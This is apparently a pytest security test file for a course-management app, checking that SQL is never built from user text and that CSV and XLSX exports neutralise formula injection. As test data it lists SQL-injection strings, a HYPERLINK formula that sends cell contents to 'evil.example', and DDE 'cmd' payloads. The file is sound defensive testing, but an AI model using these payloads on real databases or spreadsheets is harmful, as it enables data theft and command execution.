"""Security: no SQL built from user text, no formula injection in files the app writes.

(Certificates: signing-key permissions and forged certificates are tested in
test_certificate_security.py.)
"""

from __future__ import annotations

import ast
import csv
import re
import zipfile
from pathlib import Path

import pytest

PACKAGE = Path(__file__).resolve().parents[2] / "course_manager"
_SQL = re.compile(
    r"\b(SELECT|INSERT|UPDATE|DELETE|PRAGMA|CREATE|DROP|ALTER|WHERE|VALUES|SAVEPOINT|JOIN)\b"
)

# Every expression interpolated into SQL text in course_manager/, reviewed by hand: each one is
# built from code constants (table/column names written in the package, '?' placeholders,
# clauses written as literals), never from what a person typed or a spreadsheet held. The rule
# is documented in storage/database.py. A new interpolation fails this test until it has been
# reviewed and added here with the reason.
REVIEWED = {
    "table": "table names from code: AUDITED_TABLES, _RECORD_TABLES, update_row callers",
    "cols": "column names: keys of values already checked against the FIELDS constant",
    "marks": "':name' / '?' placeholders made from those column names or a count",
    "assignments": "'col = :col' / 'col = ?' for columns filtered by FIELDS / VALUE_FIELDS",
    "status": "a literal clause chosen by a boolean",
    "where": "literal clauses such as 'c.id = ?' chosen by the caller in code",
    "updates": "audit trigger body made from the table's schema columns",
    "old_json": "json_object() arguments made from the table's schema columns",
    "c": "a column name read from PRAGMA table_info (the schema, written by migrations)",
    "new_id": "'new.id' / 'NULL' chosen from the table name",
    "new_uuid": "'new.uuid' / 'new.key' chosen from the table name",
    "old_id": "'old.id' / 'NULL' chosen from the table name",
    "old_uuid": "'old.uuid' / 'old.key' chosen from the table name",
    "origin_cols": "audit: the literal ', office, exchange_file' or '' (exchange migration)",
    "origin_values": "audit: the literal ', cm_office(), cm_exchange_file()' or ''",
    "_STORED_COLUMNS": "module constant: column names",
    "SCHEMA_MAJOR": "module constant: an int",
    "int(BUSY_TIMEOUT_S * 1000)": "module constant: an int",
    "', '.join(columns)": "a constant tuple of column names",
    "', '.join('?' * len(columns))": "placeholders",
    "enrollment_where": "literal clauses such as 'e.cohort_id = ?' chosen in code",
    "'e.id = ?'": "a literal clause",
    "sort": "roster sort column, checked against the SORT_KEYS constant before use",
    "joined": "COALESCE() over the _SEARCHED constant's column names",
    "bits['with_bits'].format(cohort_where=cohort_where)": "completion SQL fragments from the"
    " _BITS_BY_ID / _BITS_BY_RANK constants with a literal cohort clause",
    "bits['bit_join']": "a fragment of the _BITS_BY_ID / _BITS_BY_RANK constants",
    "bits['b']": "a fragment of the _BITS_BY_ID / _BITS_BY_RANK constants",
    "bits['masks']": "a fragment of the _BITS_BY_ID / _BITS_BY_RANK constants",
}


def _sql_interpolations() -> list[tuple[str, int, str]]:
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        sql_constants = {
            t.id
            for node in ast.walk(tree)
            if isinstance(node, ast.Assign)
            and isinstance(node.value, ast.Constant)
            and isinstance(node.value.value, str)
            and _SQL.search(node.value.value)
            for t in node.targets
            if isinstance(t, ast.Name)
        }
        rel = str(path.relative_to(PACKAGE.parent))
        for node in ast.walk(tree):
            if isinstance(node, ast.JoinedStr):
                text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
                if _SQL.search(text):
                    found += [
                        (rel, node.lineno, ast.unparse(v.value))
                        for v in node.values
                        if isinstance(v, ast.FormattedValue)
                    ]
            elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
                left = node.left
                if isinstance(left, ast.Constant) and _SQL.search(str(left.value)):
                    found.append((rel, node.lineno, "%-formatting of SQL"))
            elif (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "format"
            ):
                target = node.func.value
                is_sql = (isinstance(target, ast.Constant) and _SQL.search(str(target.value))) or (
                    isinstance(target, ast.Name) and target.id in sql_constants
                )
                if is_sql:
                    found += [(rel, node.lineno, ast.unparse(a)) for a in node.args]
                    found += [(rel, node.lineno, ast.unparse(k.value)) for k in node.keywords]
    return found


def test_sql_is_never_built_from_anything_but_reviewed_code_constants() -> None:
    found = _sql_interpolations()
    assert found, "the scan found no SQL at all: it is broken"
    unreviewed = [
        f"{file}:{line}: {{{expr}}}" for file, line, expr in found if expr not in REVIEWED
    ]
    assert not unreviewed, (
        "SQL text built from expressions nobody reviewed; pass values as ? parameters, or, for a "
        "name taken from code constants, add it to REVIEWED with the reason:\n"
        + "\n".join(unreviewed)
    )


HOSTILE = [
    "Robert'); DROP TABLE participant;--",
    '" OR 1=1 --',
    "x' || (SELECT group_concat(email) FROM participant) || '",
]


def test_hostile_text_is_stored_and_shown_exactly(cli, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("demo").code == 0
    before = len(cli("participants", "--json").json())
    for i, text in enumerate(HOSTILE):
        r = cli(
            "participant",
            "add",
            "--name",
            text,
            "--organization",
            text,
            "--notes",
            text,
            "--position",
            text,
            "--email",
            f"hostile{i}@example.org",
            "--cohort",
            "2026-AST-01",
        )
        assert r.code == 0, r.err
    people = cli("participants", "--json").json()
    assert len(people) == before + len(HOSTILE)
    for text in HOSTILE:
        match = [p for p in people if p["full_name"] == text]
        assert len(match) == 1
        assert match[0]["organization"] == text and match[0]["notes"] == text
    r = cli("participant", "show", "hostile0@example.org", "--json")
    assert r.code == 0 and HOSTILE[0] in r.out


# -- formula injection --------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width =
    "\ufe62SUM(1;2)",  # small +
    "-1-1",
]
_DANGEROUS_START = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66",
    "\ufe62", "\ufe63", "\ufe6b", "\u2212",
)  # fmt: skip


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_csv_safe(path: Path) -> None:
    cells = _csv_cells(path)
    for payload in FORMULAS:
        assert payload not in cells, f"{path.name}: {payload!r} written as is"
    for cell in cells:
        if cell.startswith(_DANGEROUS_START):
            assert re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell) or cell.startswith("'"), cell


def _assert_xlsx_safe(path: Path) -> None:
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{path.name}:{name} has a formula"
    workbook = load_workbook(path)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any(any(p in t for p in FORMULAS) for t in texts), "the payloads were not written"


@pytest.fixture
def hostile_roster(cli, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("demo").code == 0
    for i, text in enumerate(FORMULAS):
        r = cli(
            "participant",
            "add",
            "--name",
            f"{text} {i}",
            f"--organization={text}",
            f"--position={text}",
            f"--notes={text}",
            "--email",
            f"formula{i}@example.org",
            "--cohort",
            "2026-AST-01",
        )
        assert r.code == 0, r.err


def test_participant_exports_neutralise_formulas(
    cli,
    hostile_roster: None,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    csv_out, xlsx_out = tmp_path / "people.csv", tmp_path / "people.xlsx"
    r = cli("participants", "--csv", csv_out, "--xlsx", xlsx_out)
    assert r.code == 0, r.err
    _assert_csv_safe(csv_out)
    _assert_xlsx_safe(xlsx_out)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_rejects_file_neutralises_formulas(cli, tmp_path: Path, suffix: str) -> None:  # type: ignore[no-untyped-def]
    roster = tmp_path / "form.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Full name", "E-mail", "Organization"])
        for i, text in enumerate(FORMULAS):
            writer.writerow([f"{text} {i}", text, text])  # the e-mail is bad: rejected
    rejects = tmp_path / f"rejects{suffix}"
    r = cli("import", roster, "--rejects", rejects)
    assert r.code == 0, r.err
    if suffix == ".csv":
        _assert_csv_safe(rejects)
        assert len(_csv_cells(rejects)) > len(FORMULAS)
    else:
        _assert_xlsx_safe(rejects)


def test_the_partner_report_neutralises_formulas(
    cli,
    hostile_roster: None,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    out = tmp_path / "report.xlsx"
    r = cli("report", "--all", "--out", out)
    assert r.code == 0, r.err
    _assert_xlsx_safe(out)
